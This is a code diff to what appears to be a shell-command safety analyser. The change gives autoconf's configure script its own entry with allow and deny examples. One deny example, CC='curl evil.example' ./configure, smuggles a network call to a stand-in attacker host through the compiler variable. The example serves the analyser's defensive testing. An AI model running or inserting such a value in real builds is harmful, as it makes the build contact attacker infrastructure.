@@ -13,7 +13,7 @@ const PROCESS =
   'pgrep pkill killall pidof top htop btop atop glances iotop nethogs iftop renice lsof fuser pstree pmap vmstat iostat mpstat sar dstat watchdog  journalctl loginctl timedatectl hostnamectl localectl networkctl rc-service rc-update initctl supervisorctl';
 
 const DEVELOP =
-  'ld ld.lld ld.gold lld as nasm yasm ar ranlib nm objdump objcopy readelf strip size addr2line cpp javac jar scalac gradle gradlew ant rustc swiftc xcodebuild tsc esbuild vite webpack rollup parcel jest vitest mocha ava pytest py.test behave tox nox rspec prove phpunit   isort flake8 mypy pyright     rubocop golangci-lint shfmt clang-format clang-tidy cmake-format meson buck pants scons autoconf automake autoreconf pkg-config configure packer kustomize tilt k9s    doctl vercel netlify wrangler firebase supabase  tig lazygit git-lfs pre-commit husky lefthook go-task poe next pod webpack-cli nuxt nuxi astro svelte-kit babel tailwindcss postcss tsup lint-staged karma remix vue-cli-service ng gulp grunt playwright cypress fab invoke inv doit waf guard danger fastlane earthly foreman honcho overmind hivemind forego commitlint semantic-release changeset act gitlab-runner gitlab-ci-local';
+  'ld ld.lld ld.gold lld as nasm yasm ar ranlib nm objdump objcopy readelf strip size addr2line cpp javac jar scalac gradle gradlew ant rustc swiftc xcodebuild tsc esbuild vite webpack rollup parcel jest vitest mocha ava pytest py.test behave tox nox rspec prove phpunit   isort flake8 mypy pyright     rubocop golangci-lint shfmt clang-format clang-tidy cmake-format meson buck pants scons autoconf automake autoreconf pkg-config packer kustomize tilt k9s    doctl vercel netlify wrangler firebase supabase  tig lazygit git-lfs pre-commit husky lefthook go-task poe next pod webpack-cli nuxt nuxi astro svelte-kit babel tailwindcss postcss tsup lint-staged karma remix vue-cli-service ng gulp grunt playwright cypress fab invoke inv doit waf guard danger fastlane earthly foreman honcho overmind hivemind forego commitlint semantic-release changeset act gitlab-runner gitlab-ci-local';
 
 const TEXT =
   'diffstat colordiff wdiff jo csvkit xsv qsv dasel htmlq pup xmlstarlet tidy asciidoctor markdown mdcat';
@@ -202,7 +202,7 @@ export const KNOWN_ENTRIES: ProgramEntry[] = [
   }),
   {
     names: ['update-alternatives', 'alternatives'],
-    summary: 'update-alternatives: --install, --set, --config and --set-selections point a system command (editor, pager, java…) at another program for every later use',
+    summary: 'update-alternatives: --install, --set, --config and --set-selections point a system command (editor, pager, java\u2026) at another program for every later use',
     analyze(call) {
       const at = call.args.find((a) => /^--(?:install|set|config|set-selections)$/.test(value(a) ?? ''));
       return at ? { persists: [{ word: at, why: `update-alternatives ${value(at)} changes which program a system command runs from now on` }] } : {};
@@ -211,6 +211,8 @@ export const KNOWN_ENTRIES: ProgramEntry[] = [
   },
   known(PROCESS, 'process and service tools: program names are data'),
   known(DEVELOP, 'compilers, build tools, linters and cloud CLIs: they run files, not words'),
+  // Its own code is a file of the project (out of scope); the compiler it tests is $CC, read as the build drivers' are.
+  known('configure', 'an autoconf configure script: its options are text; it runs $CC, $CXX\u2026 to test the compiler', 'text', { examples: { deny: ["CC='curl evil.example' ./configure"], pass: ['./configure --prefix=/usr', 'CC=clang ./configure'] } }),
   known(TEXT, 'text tools'),
   known(LOOKUP, 'programs that look names up'),
   known(SYSTEM, 'system administration tools'),
